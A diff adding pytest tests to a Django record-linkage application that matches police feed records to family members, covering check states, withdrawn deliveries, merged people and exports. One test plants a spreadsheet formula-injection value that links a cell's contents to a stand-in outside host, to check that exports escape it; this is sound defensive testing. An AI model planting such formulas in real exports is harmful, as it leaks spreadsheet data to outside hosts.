@@ -1,13 +1,18 @@
+from datetime import timedelta
+
 import pytest
 from django.urls import reverse
 
+from alongside.access import days
 from alongside.access.policy import Role
-from alongside.context import deciding
+from alongside.context import deciding, deliveries, exporting, linking_up, loading, models_of_linkage
 from alongside.context.errors import CannotDecide
-from alongside.context.models import AgencyRecord, Decision, Pair
+from alongside.context.models import AgencyRecord, Decision, FeedDelivery, Pair
+from alongside.context.states import State
 from alongside.people import actions as people
 from alongside.people import merging
 from alongside.people.from_case_system import join_family
+from alongside.practice import profile
 from tests.context import services
 from tests.people import staff
 
@@ -35,6 +40,18 @@ def also_compared(pair, person, **more):
     )  # fmt: skip
     other.save(force_insert=True)
     return other
+
+
+def service_of(world, person, feed="police"):
+    """A service as Maria's page has it for somebody of the family."""
+    [card] = [
+        each for each in loading.cards_of(world.family, days.today(), world.maria.account) if each.person == person
+    ]
+    return next(each for each in card.services if each.feed.key == feed)
+
+
+def state_of(world, person):
+    return service_of(world, person).state
 
 
 def test_a_certain_pair_is_linked_by_the_rule_and_says_so(pair):
@@ -182,6 +199,17 @@ def test_the_record_of_another_home_shows_its_address_once_it_is_not_hers(world,
     assert "Quay" in world.of(steward_here).get(page).content.decode()
 
 
+def test_a_certain_record_of_somebody_else_is_for_the_steward_to_look_at(world, pair, steward_here):
+    other = also_compared(pair, world.family.people.get(forename="Samira"))
+    deciding.decide(pair, verdict=Pair.Verdict.DIFFERENT, because="No.", by=steward_here)
+    deciding.decide(other, verdict=Pair.Verdict.SAME, because="I rang.", by=steward_here)
+    Decision.objects.filter(pair=pair).delete()
+    pair.delete()
+    services.link(steward_here)
+    found = Pair.objects.get(person=world.amina)
+    assert (found.stands, found.waits_as) == ("", Pair.Waits.NEW)
+
+
 def test_a_person_added_since_is_not_checked(world, police):
     uncle = people.add_person(forename="Omar", surname="Hassan", by=None)
     uncle.birth_on = world.amina.birth_on
@@ -192,6 +220,75 @@ def test_a_person_added_since_is_not_checked(world, police):
     assert "this person was added here after the last check" in client.get(page).content.decode()
     services.link()
     assert "this person was added here after" not in client.get(page).content.decode()
+
+
+def test_a_person_who_was_in_no_family_yet_when_others_were_compared_is_not_checked(world, police, steward_here):
+    uncle = people.add_person(forename="Omar", surname="Hassan", by=None)
+    uncle.birth_on = world.amina.birth_on
+    uncle.save()
+    services.link(steward_here)
+    join_family(world.family, uncle, by=None)
+    assert state_of(world, uncle) is State.NOT_CHECKED
+    services.link(steward_here)
+    assert state_of(world, uncle) is State.NO_RECORD
+
+
+def test_a_person_is_not_checked_until_every_delivery_that_counts_was_compared(
+    world, steward_here, tmp_path, monkeypatch
+):
+    practice = profile.current()
+    feeds = tuple(each.model_copy(update={"holds_all": False}) for each in practice.feeds)
+    adding = practice.model_copy(update={"feeds": feeds})
+    monkeypatch.setattr(profile, "current", lambda: adding)
+    long_ago = days.today() - timedelta(days=40)
+    services.bring(tmp_path, "police", steward_here, services.known_as(world.amina, "N1"), as_of=long_ago)
+    uncle = people.add_person(forename="Omar", surname="Hassan", by=None)
+    uncle.birth_on = world.amina.birth_on
+    uncle.save()
+    join_family(world.family, uncle, by=None)
+    services.take(tmp_path, "police", steward_here, services.known_as(world.dean, "N2"))
+    list(linking_up.link_all(by=steward_here, learnt=models_of_linkage.shipped(), only_new=True))
+    assert state_of(world, uncle) is State.NOT_CHECKED
+    [record] = service_of(world, world.amina).records
+    assert record.correct_as_of == long_ago, "it came then, whatever came since"
+
+
+@pytest.mark.parametrize("how", ["taken back", "replaced"])
+def test_a_record_that_is_there_no_more_waits_for_nobody(world, unsure, steward_here, tmp_path, how):
+    samira = unsure.person
+    assert state_of(world, samira) is State.BEING_CHECKED
+    if how == "replaced":
+        services.bring(tmp_path, "police", steward_here, services.known_as(world.amina, "N1"))
+        assert state_of(world, samira) is State.NO_RECORD
+    else:
+        deliveries.take_back(FeedDelivery.objects.get(), because="The wrong file.", by=steward_here)
+        assert state_of(world, samira) is State.NOT_CHECKED
+
+
+def test_a_record_linked_with_a_second_record_of_somebody_can_be_linked_with_the_kept_one(
+    world, police, pair, steward_here
+):
+    kept = people.add_person(forename="Amina", surname="Hassan", by=None)
+    kept.birth_on = world.amina.birth_on
+    kept.save()
+    join_family(world.family, kept, by=None)
+    other = also_compared(pair, kept)
+    with pytest.raises(CannotDecide):
+        deciding.decide(other, verdict=Pair.Verdict.SAME, because="", by=steward_here)
+    maria, joy = world.maria.account, world.joy.account
+    asked = merging.ask(world.family, kept=kept, merged=world.amina, because="The same woman.", by=maria)
+    if asked.needs_manager:
+        merging.decide(asked, is_right=True, by=joy)
+    deciding.decide(other, verdict=Pair.Verdict.SAME, because="", by=steward_here)
+    assert state_of(world, kept) is State.CURRENT
+
+
+def test_exported_links_hold_no_formula(world, steward_here, tmp_path):
+    services.bring(
+        tmp_path, "police", steward_here, services.known_as(world.amina, '=HYPERLINK("http://x.example/"&C2)')
+    )
+    [row] = exporting.links(steward_here)
+    assert row[1].startswith("'=HYPERLINK")
 
 
 def test_two_records_of_one_person_keep_what_was_decided_about_each(world, pair, steward_here, tmp_path):
